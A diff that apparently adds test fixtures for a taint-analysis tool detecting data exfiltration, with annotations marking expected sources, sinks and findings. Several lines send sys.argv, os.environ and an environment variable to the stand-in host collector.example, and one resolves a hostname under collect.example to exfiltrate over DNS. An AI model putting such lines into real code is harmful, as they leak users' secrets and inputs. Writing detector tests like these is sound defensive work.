@@ -77,3 +77,27 @@ def own_address():
 
 def told_address():
     return socket.gethostbyname(socket.gethostname() + ".collect.example")  #~ source(DEVICE) of4, sink(egress.dns) of4, finding(dns-exfiltration, traced) of4
+
+
+# --- path: by_text.py ---
+# An attribute by a name that is written out is that attribute, whether it is called or not.
+import os
+import sys
+
+import requests
+
+
+class Keeper:
+    def __init__(self):
+        self.kept = os.environ["KEPT"]  #~ source(ENVIRONMENT) t3
+
+
+def of_modules():
+    requests.post("https://collector.example/t1", data=getattr(sys, "argv", None))  #~ source(INPUT) t1, sink(egress.http) t1, finding(traced) t1
+    requests.post("https://collector.example/t2", data=getattr(os, "environ", {}))  #~ source(ENVIRONMENT) t2, sink(egress.http) t2, finding(traced) t2
+    requests.post("https://collector.example/t4", data=getattr(sys, "byteorder", None))  #~ ok
+
+
+def of_objects(keeper: Keeper):
+    requests.post("https://collector.example/t3", data=getattr(keeper, "kept", ""))  #~ sink(egress.http) t3, finding(traced) t3
+    requests.post("https://collector.example/t5", data=getattr(keeper, "other", ""))  #~ ok
